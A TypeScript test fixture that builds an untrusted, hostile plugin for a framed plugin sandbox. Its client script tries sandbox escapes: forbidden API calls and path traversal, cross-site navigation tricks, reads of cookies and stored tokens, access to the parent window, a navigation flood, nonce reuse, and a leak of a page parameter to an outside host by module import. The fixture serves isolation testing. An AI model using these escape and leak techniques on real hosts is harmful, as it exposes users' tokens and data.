/** An untrusted plugin: unsigned, in a frame, and hostile. It tries to send what it knows to `site`. */
export function frameFiles(site: string): ReadonlyMap<string, Buffer> {
  const manifest = {
    id: 'guest',
    version: '1.0.0',
    isolation: 'frame',
    calls: ['GET directions'],
    routes: { hall: { path: '/guest/:id', access: { rule: 'signedIn' } } },
  };
  const contents = {
    'package.json': { name: 'komak-plugin-guest', version: '1.0.0', komak: { apiVersion: '^1' } },
    'manifest.json': manifest,
    'locales/uz.json': { title: 'Mehmon' },
    'locales/ru.json': { title: 'Гость' },
    'client.js': clientOf(site),
  };
  return new Map(
    Object.entries(contents).map(([path, content]) => [
      path,
      Buffer.from(typeof content === 'string' ? content : JSON.stringify(content)),
    ]),
  );
}

// Over 60 lines: the text of one script.
const clientOf = (site: string) => `
  import { connect } from '@komak/plugin-api/frame';
  const frame = await connect();
  // The name of a window outlives its pages.
  if (name === 'reload') location.reload();
  const { params } = frame.state;
  document.body.innerHTML = '<h1></h1><p data-testid="state"></p><p data-testid="look">look</p><button>settings</button><button>flood</button><button>reload</button><button>leave</button><pre data-testid="attacks"></pre>';
  const show = ({ page, path, language, theme }) => {
    document.querySelector('[data-testid=state]').textContent = [page, params.id, path, language, theme].join(' ');
    document.querySelector('h1').textContent = frame.text('title');
  };
  show(frame.state);
  frame.onChange(show);
  document.querySelector('[data-testid=look]').style.color = 'var(--accent)';
  const [settings, flood, reload, leave] = document.querySelectorAll('button');
  settings.addEventListener('click', () => frame.navigate('/settings'));
  flood.addEventListener('click', () => setTimeout(() => { for (let n = 0; n < 100000; n++) frame.navigate('/guest/7'); }, 300));

  reload.addEventListener('click', () => { name = 'reload'; location.reload(); });

  leave.addEventListener('click', () => { location.href = '${site}/left'; });

  const results = {};
  const later = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
  async function attack(name, work) {
    try {
      results[name] = await Promise.race([work(), later(3000).then(() => 'ignored')]);
    } catch (error) {
      results[name] = 'refused' + (error.status === undefined ? '' : ' ' + error.status);
    }
  }
  await attack('the call of the manifest', async () => { await frame.call('GET', 'directions?limit=1'); return 'ok'; });
  await attack('another call', async () => { await frame.call('GET', 'admins'); return 'let through'; });
  await attack('another method', async () => { await frame.call('DELETE', 'directions'); return 'let through'; });
  await attack('a path that climbs', async () => { await frame.call('GET', '../../etc'); return 'let through'; });
  await attack('a navigation to another site', async () => {
    for (const path of ['//site.example', '/\\\\site.example', '/\\t/site.example', '/.//site.example', '/a/..//site.example']) frame.navigate(path);
    await later(500);
    return 'refused';
  });
  await attack('cookies', async () => { document.cookie = 'a=1'; return document.cookie; });
  await attack('local storage', async () => localStorage.getItem('token') ?? 'let through');
  await attack('session storage', async () => sessionStorage.getItem('token') ?? 'let through');
  await attack('indexed database', () => new Promise((done, fail) => {
    const request = indexedDB.open('a'); request.onsuccess = () => done('let through'); request.onerror = () => fail(new Error());
  }));
  await attack('the parent’s page', async () => parent.document.title);
  await attack('the parent’s address', async () => parent.location.href);
  await attack('the top window', async () => { top.location.href = '/login'; await later(500); return 'refused'; });
  await attack('a window', async () => (open('/settings') === null ? 'refused' : 'let through'));
  await attack('fetch', async () => { await fetch('/api/uz/plugins'); return 'let through'; });
  await attack('socket', () => new Promise((done, fail) => {
    const socket = new WebSocket(location.href.replace('http', 'ws')); socket.onopen = () => done('let through'); socket.onerror = () => fail(new Error());
  }));
  await attack('image', () => new Promise((done, fail) => {
    const image = new Image(); image.onload = () => done('let through'); image.onerror = () => fail(new Error()); image.src = new URL('/mark.svg?leak', location.href);
  }));
  await attack('worker', () => new Promise((done, fail) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => done('let through'); worker.onerror = () => fail(new Error());
  }));
  await attack('a script of a text', async () => { const f = new Function('return "let through"'); return f(); });
  const leak = ['${site}', params.id].join('/');
  await attack('a module of another site', async () => { await import(leak); return 'let through'; });
  await attack('a script with the nonce of another', () => new Promise((done, fail) => {
    const script = document.createElement('script'); script.nonce = document.querySelector('script').nonce;
    script.onload = () => done('let through'); script.onerror = () => fail(new Error()); script.src = leak; document.head.append(script);
  }));
  const shown = document.querySelector('[data-testid=attacks]');
  shown.textContent = JSON.stringify(results);
  shown.dataset.done = 'true';
`;
